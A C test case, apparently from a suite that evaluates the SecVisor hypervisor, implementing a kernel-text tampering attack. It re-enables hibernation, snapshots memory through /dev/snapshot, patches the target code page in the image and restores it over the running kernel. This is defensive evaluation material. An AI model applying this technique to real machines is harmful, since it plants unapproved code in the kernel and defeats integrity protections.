// Row 17. A hibernation image with changed kernel text, restored by a user program (/dev/snapshot) over the running kernel.
// Source: resume from an image that nobody checks; lockdown forbids it for that reason.
// Ends: natively succeeded; beneath SecVisor refused, unapproved-code: the code that copies the image is itself a copy. Linux cannot go on from there: it is made to panic, which resets the machine.
#include "common/attack.h"
#include <errno.h>
#include <fcntl.h>
#include <linux/suspend_ioctls.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <unistd.h>

#define ROOM (400ul << 20)

ATTACK("hibernate")
{
	u64 at = symbol(VICTIM), no_hibernation = symbol("nohibernate");
	static u8 page[PAGE];
	int file, suspending = 1, changed = 0;
	size_t length = 0;
	ssize_t part;
	long before = victim(), after;
	u32 zero = 0;
	u8 *image;

	// What the command line said is data.
	kwrite(no_hibernation, &zero, sizeof(zero));
	write_file("/proc/sys/kernel/panic_on_oops", "1\n");
	kread(at & ~(PAGE - 1), page, PAGE);
	file = open("/dev/snapshot", O_RDONLY | O_CLOEXEC);
	if (file < 0)
		failed("no /dev/snapshot: %s", strerror(errno));
	about_to("take an image of the system");
	if (ioctl(file, SNAPSHOT_FREEZE) || ioctl(file, SNAPSHOT_CREATE_IMAGE, &suspending))
		failed("no image: %s", strerror(errno));
	if (!suspending) {
		// Here the restored system goes on.
		ioctl(file, SNAPSHOT_UNFREEZE);
		after = victim();
		if (after == MARK)
			succeeded("the system was restored with other text: the system call returns %#lx", after);
		failed("the system was restored as it was: %ld, %ld", before, after);
	}
	image = mmap(NULL, ROOM, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	if (image == MAP_FAILED)
		failed("no room for the image");
	while (length < ROOM && (part = read(file, image + length, PAGE)) > 0)
		length += part;
	close(file);
	for (size_t i = 0; i < length; i += PAGE)
		if (!memcmp(image + i, page, PAGE)) {
			memcpy(image + i + (at & (PAGE - 1)), CODE, CODE_LENGTH);
			changed++;
		}
	if (changed != 1)
		failed("%d pages of %zu bytes to change", changed, length);
	file = open("/dev/snapshot", O_WRONLY | O_CLOEXEC);
	if (file < 0)
		failed("no /dev/snapshot: %s", strerror(errno));
	for (size_t i = 0; i < length; i += PAGE)
		if (write(file, image + i, PAGE) != PAGE)
			failed("the image is not taken: %s", strerror(errno));
	about_to("restore the changed image");
	if (ioctl(file, SNAPSHOT_FREEZE) || ioctl(file, SNAPSHOT_ATOMIC_RESTORE))
		failed("the image is not restored: %s", strerror(errno));
	failed("nothing was restored");
}
